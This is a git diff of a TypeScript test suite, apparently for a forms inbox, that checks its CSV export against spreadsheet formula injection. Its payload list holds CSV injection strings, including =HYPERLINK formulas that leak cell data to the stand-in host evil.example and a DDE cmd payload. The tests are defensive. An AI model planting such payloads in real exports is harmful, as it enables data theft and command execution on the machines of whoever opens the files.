@@ -487,7 +487,7 @@ describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 subm
       .values({ spaceId: space, formName: 'contacto', page: '/', fields })
       .returning({ id: formSubmissions.id });
 
-  it('no cell of the CSV export starts a formula, whether the sheet splits on commas, semicolons, tabs or lines', async () => {
+  it('no cell of the CSV export starts a formula: read as RFC 4180, or split on semicolons, tabs and lines as Excel in Spanish does', async () => {
     const payloads = [
       '=HYPERLINK("https://evil.example/?d="&A1,"Pulsa aquí")',
       "+1+cmd|' /C calc'!A0",
@@ -497,10 +497,12 @@ describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 subm
       '\r=1+1',
       '  =1+1',
       'Hola;=HYPERLINK("https://evil.example";"x")',
+      'Hola,=HYPERLINK("https://evil.example","x")',
       'Hola;  @SUM(1;2)',
       'línea uno\n=1+1',
       'a"b;=1+1',
       'x\t-3+3',
+      'Hola, -2 grados y 3 @ 5',
     ];
     await received(spaceId, [
       ...payloads.map((value, i) => ({ name: `campo${i}`, value })),
@@ -512,13 +514,24 @@ describe.each(testDrivers)('attacks on the forms inbox, its CSV and the /v1 subm
     expect(res.headers['content-disposition']).toMatch(/^attachment;/);
     expect(res.headers['x-content-type-options']).toBe('nosniff');
     const text = res.body.replace(/^\uFEFF/, '');
-    // Every piece a spreadsheet could take for a cell, however it splits, read as it would be.
-    for (const piece of text.split(/[,;\t\r\n]/)) {
+    // 1. Read as RFC 4180 (Excel, LibreOffice and Google Sheets with commas honour the quotes): no
+    // cell starts a formula, a tab or a CR; the ones that did get exactly one `'` before them.
+    const [header = [], row = []] = readCsv(text);
+    for (const cell of [...header, ...row]) expect(cell, JSON.stringify(cell)).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
+    expect(header).toContain("'=cabecera()");
+    const cellOf = (i: number) => row[header.indexOf(`campo${i}`)];
+    expect(cellOf(0)).toBe(`'${payloads[0]}`);
+    expect(cellOf(2)).toBe("'-2+3");
+    expect(cellOf(4)).toBe("'\t'=1+1");
+    expect(cellOf(8)).toBe(payloads[8]);
+    expect(cellOf(13)).toBe(payloads[13]);
+    // 2. Split on `;`, tabs and line breaks whatever the quotes (a sheet whose list separator is `;`
+    // reads a quote that does not open a cell as text): no piece starts a formula either.
+    for (const piece of text.split(/[;\t\r\n]/)) {
       const start = piece.replace(/^\s*"?\s*/, '');
       expect(start, JSON.stringify(piece)).not.toMatch(/^[=+\-@]/);
     }
-    // The values are still there for a person to read.
-    expect(text).toContain(`'=HYPERLINK(""https://evil.example/?d=""&A1`);
+    expect(cellOf(7)).toBe(`Hola;'=HYPERLINK("https://evil.example";"x")`);
   });
 
   it('the inbox and its export are for editors: viewers 403, other tenants 404, ids of another space 404', async () => {
@@ -649,3 +662,18 @@ describe.each(testDrivers)('attacks on the realtime socket on %s (issue 19)', (d
     }
   });
 });
+
+/** Rows of RFC 4180 CSV text (quoted cells may hold commas, quotes as "" and line breaks). */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  const cells = /(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(,|\r\n|$)/g;
+  let row: string[] = [];
+  for (let m = cells.exec(text); m && m.index < text.length; m = cells.exec(text)) {
+    row.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : (m[2] ?? ''));
+    if (m[3] !== ',') {
+      rows.push(row);
+      row = [];
+    }
+  }
+  return rows;
+}
